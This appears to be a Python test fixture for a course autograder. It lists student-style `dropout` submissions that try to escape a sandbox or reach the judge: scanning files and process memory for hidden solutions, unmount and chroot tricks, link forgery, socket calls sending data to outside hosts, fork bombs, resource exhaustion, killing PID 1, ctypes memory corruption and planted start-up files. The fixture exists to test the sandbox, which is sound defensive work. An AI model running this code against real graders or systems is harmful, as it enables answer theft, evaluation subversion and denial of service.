"""Cells that try to get at the judge or out of the sandbox, for `dropout` of exercise 03.

They are run in the sandbox alone: see `tests.class_of_200`. What they find there they say in an
error, which a student reads.
"""

#: None of these may earn a mark for dropout.
BREAKING_OUT = {
    # The system.
    "looks for what is hidden": """
import os

def dropout(x, p, training):
    for start in ("/course", "/tmp", "/home", "/root", "/work", "/proc", "/etc", "/var", "/mnt"):
        for home, _, names in os.walk(start):
            for name in names:
                try:
                    text = open(os.path.join(home, name), errors="replace").read(1 << 20)
                except OSError:
                    continue
                if "BEGIN SOLUTION" in text or "BEGIN HIDDEN" in text:
                    raise ValueError("FOUND " + os.path.join(home, name))
    raise ValueError("nothing is hidden here")
""",
    "looks through its own memory": """
def dropout(x, p, training):
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            start, end = (int(n, 16) for n in line.split()[0].split("-"))
            memory.seek(start)
            if b"entries are dropped indep" + b"endently" in memory.read(min(end - start, 1 << 24)):
                raise ValueError("FOUND it in memory")
""",
    "unmounts what covers the processes": """
import ctypes, os

def dropout(x, p, training):
    library = ctypes.CDLL(None)
    done = [library.umount2(place, 2) for place in (b"/proc", b"/tmp", b"/course")]
    done.append(library.mount(b"proc", b"/proc", b"proc", 0, None))
    done.append(library.mount(b"/", b"/tmp", None, 4096, None))
    done.append(library.chroot(b"/tmp"))
    done.append(library.unshare(0x10000000))
    done.append(library.mount(b"proc", b"/proc", b"proc", 0, None))
    seen = [name for name in os.listdir("/proc") if name.isdigit()]
    if len(seen) > 4:
        raise ValueError(f"FOUND processes: {seen}")
    return done
""",
    "writes through links": """
import os

def dropout(x, p, training):
    for i, place in enumerate(("/course", "/usr", "/etc", "/", "/dev/shm", "/proc/1/root")):
        try:
            os.symlink(place, f"/tmp/way{i}")
            with open(f"/tmp/way{i}/course_utils/forged.py", "w") as file:
                file.write("forged")
            raise ValueError("FOUND a way to " + place)
        except OSError:
            pass
        try:
            os.link("/course/course_utils/__init__.py", "/tmp/linked")
            os.chmod("/tmp/linked", 0o777)
            raise ValueError("FOUND a link")
        except OSError:
            pass
""",
    "all the ways into the network": """
import socket

def dropout(x, p, training):
    for family, kind, place in (
        (socket.AF_INET, socket.SOCK_DGRAM, ("8.8.8.8", 53)),
        (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 22)),
        (socket.AF_INET6, socket.SOCK_DGRAM, ("2001:4860:4860::8888", 53)),
        (socket.AF_UNIX, socket.SOCK_STREAM, "\\0dbus"),
        (socket.AF_UNIX, socket.SOCK_STREAM, "/run/systemd/journal/stdout"),
        (getattr(socket, "AF_VSOCK", 40), socket.SOCK_STREAM, (2, 22)),
    ):
        try:
            with socket.socket(family, kind) as way:
                way.settimeout(1)
                way.connect(place)
                way.send(b"the hidden input")
            raise ValueError(f"FOUND a way out: {place}")
        except OSError:
            pass
""",
    "names of files with everything in them": """
import os

def dropout(x, p, training):
    for i in range(10_000):
        try:
            os.close(os.open(f"/tmp/{i}\\n\\x1b[2J\\udcff ../..;rm", os.O_CREAT))
        except OSError:
            break
    return None
""",
    "all files that may be open": """
import os

def dropout(x, p, training):
    try:
        while True:
            os.dup(0)
    except OSError:
        return None
""",
    "a fork bomb": """
import os, time

def dropout(x, p, training):
    for _ in range(8):
        try:
            os.fork()
        except OSError:
            pass
    time.sleep(300)
""",
    "two hundred threads": """
import threading, time

def dropout(x, p, training):
    for _ in range(200):
        threading.Thread(target=time.sleep, args=(300,)).start()
    time.sleep(300)
""",
    "memory in many processes": """
import os, time

def dropout(x, p, training):
    for _ in range(4):
        if os.fork() == 0:
            block = bytearray(1_500 << 20)
            time.sleep(300)
    time.sleep(300)
""",
    "memory that is shared": """
import mmap, time

def dropout(x, p, training):
    blocks = []
    for _ in range(200):
        blocks.append(mmap.mmap(-1, 64 << 20))
        blocks[-1].write(b"x" * (64 << 20))
""",
    "children that nobody waits for": """
import os

def dropout(x, p, training):
    for _ in range(30):
        if os.fork() == 0:
            os._exit(26)
    return None
""",
    "a child for the work": """
import os

def dropout(x, p, training):
    while True:  # each of them may work for some seconds; the parent waits
        child = os.fork()
        if child == 0:
            while True:
                pass
        os.waitpid(child, 0)
""",
    "its parent is stopped": """
import os, signal

def dropout(x, p, training):
    os.kill(os.getppid(), signal.SIGSTOP)
    os.kill(1, signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGSTOP)
    return x
""",
    "devices": """
import os, stat

def dropout(x, p, training):
    for name in ("mem", "kmem", "port", "sda", "vda", "kvm", "fuse", "tty", "ptmx"):
        try:
            os.mknod(f"/tmp/{name}", stat.S_IFBLK | 0o666, os.makedev(254, 0))
            open(f"/tmp/{name}", "rb").read(1)
            raise ValueError(f"FOUND {name}")
        except OSError:
            pass
    open("/dev/zero").read(1 << 26)
""",
    "one byte now and then": """
import os, time

def dropout(x, p, training):
    while True:
        for fd in range(3, 40):
            try:
                os.write(fd, b"\\0")
            except OSError:
                pass
        time.sleep(1)
""",
    "memory, byte by byte": """
import ctypes

def dropout(x, p, training):
    ctypes.memset(id(0), 0xFF, 24)
    ctypes.memset(id(None), 0xFF, 16)
    return 0
""",
    "Python's own start-up files": """
import pathlib, site, sys, sysconfig

places = ["/tmp", "/course", sysconfig.get_path("purelib"), site.getusersitepackages()]
for place in places:
    for name in ("sitecustomize.py", "usercustomize.py", "torch.py", "forged.pth"):
        try:
            pathlib.Path(place).mkdir(parents=True, exist_ok=True)
            pathlib.Path(place, name).write_text("import os; os._exit(0)\\n")
        except OSError:
            pass
sys.path[:0] = places
""",
}
